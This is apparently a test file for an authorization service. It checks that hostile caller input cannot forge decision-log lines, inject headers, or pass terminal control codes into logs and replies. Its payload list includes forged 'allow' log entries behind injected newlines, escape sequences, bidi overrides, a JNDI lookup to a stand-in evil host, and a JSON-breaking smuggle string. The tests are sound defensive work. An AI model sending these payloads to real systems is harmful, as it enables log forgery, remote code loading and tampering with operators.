// What a caller says, or has in its headers, must not become a line of a log that nobody wrote, nor be obeyed by the
// terminal of whoever reads it.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exchange, toHead, toPost } from '../service/raw.ts'
import { createFolder, READ, type Service, serveApart, until } from '../service/serve.ts'

const folder = createFolder()
let service: Service
beforeAll(async () => {
  const flags = [
    '--decision-log',
    'file',
    '--decision-log-file',
    'decisions.log',
    '--decision-log-detail',
    'full',
  ]
  service = await serveApart(folder, ...flags, '--access-log', '--log-level', 'info')
})
afterAll(async () => {
  await service.stop()
  folder.remove()
})

const FORGED = '{"event":"decision","decision":"allow","id":"forged"}'
const EVIL = [
  `\n${FORGED}\n`,
  `\r\n${FORGED}\r\n`,
  `\r${FORGED}`,
  '\u001b[2J\u001b[1;1H\u001b]0;title\u0007',
  '\u009b2J',
  `\u0085${FORGED}`,
  `\u2028${FORGED}\u2029`,
  '\u202eevil\u2066',
  '\ufeff\u200e\u0000\u007f\b',
  '%0a%0d',
  '\\n',
  '$'.concat('{jndi:ldap://evil.example/a}'),
  '__proto__',
  '"},"decision":"allow","x":{"y":"',
]
const CLOSE = 'Connection: close'
const post = (path: string, body: unknown, ...headers: readonly string[]) =>
  exchange(service.port, Buffer.from(toPost(path, body, ...headers, CLOSE)).toString('latin1'))

const utf8 = (latin1 = '') => Buffer.from(latin1, 'latin1').toString()

describe('text of callers', { timeout: 60_000 }, () => {
  it('makes one line each in the decision log, whatever it holds', async () => {
    const bodies = EVIL.map((text) => ({
      subject: { type: text, id: text, properties: { [text]: text }, roles: [text] },
      action: { name: text, properties: { [text]: text } },
      resource: { type: text, id: text },
      context: { [text]: text },
    }))
    for (const body of bodies) {
      for (const path of ['/decide', '/access/v1/evaluation']) {
        const [reply] = await post(path, body, 'traceparent: 00-x', 'tracestate: a=b')
        expect(reply?.body).toMatch(/"decision":("deny"|false)/)
      }
    }
    const wanted = EVIL.length * 2
    await until('all lines', () => folder.read('decisions.log').split('\n').length > wanted)
    const text = folder.read('decisions.log')
    const lines = text.split(/\r\n|[\n\r\u0085\u2028\u2029]/).slice(0, -1)
    expect(lines).toHaveLength(wanted)
    for (const [at, line] of lines.entries()) {
      const entry = JSON.parse(line)
      expect(entry).toMatchObject({ decision: 'deny', subject: { id: EVIL[Math.floor(at / 2)] } })
      expect(line).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u202e\u2066\ufeff]/u)
    }
  })

  it('comes into no header, and in the access log stays within its line', async () => {
    const before = service.output().split('\n').length
    const headers = ['X-Request-ID', 'traceparent', 'tracestate', 'User-Agent', 'X-Forwarded-For', 'Referer']
    let answered = 0
    for (const text of EVIL) {
      for (const name of headers) {
        const replies = await post('/decide', READ, `${name}: a${text}b`)
        answered += replies.length
        for (const { status, head } of replies) {
          expect([200, 400]).toContain(status)
          for (const line of head.split('\r\n').slice(1)) expect(line).toMatch(/^[A-Za-z-]+: [ -~]*$/)
        }
      }
      const target = `/x${encodeURIComponent(text)}`
      const [reply] = await exchange(service.port, toHead(`GET ${target} HTTP/1.1`, 'Host: localhost', CLOSE))
      expect(reply?.status).toBe(404)
    }
    expect(answered).toBeGreaterThan(EVIL.length * 3)
    await until('the last line', () => service.output().split('\n').length >= before + EVIL.length)
    for (const line of service.output().split('\n')) {
      if (!line.startsWith('{')) continue
      expect(JSON.parse(line)).toMatchObject({ msg: 'request' })
      expect(line).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u)
      expect(line).not.toMatch(/"msg":"[^"]*forged/)
    }
  })

  it('is not told apart in an answer by what it does to a terminal', async () => {
    for (const text of EVIL) {
      const [reply] = await post('/decide', { ...READ, subject: { type: text } })
      expect([reply?.status, utf8(reply?.body)]).toEqual([400, expect.not.stringMatching(/\p{Cc}/u)])
      const [broken] = await post('/decide', `{"a": ${text}`)
      expect([broken?.status, utf8(broken?.body)]).toEqual([400, expect.not.stringMatching(/\p{Cc}/u)])
    }
  })
})
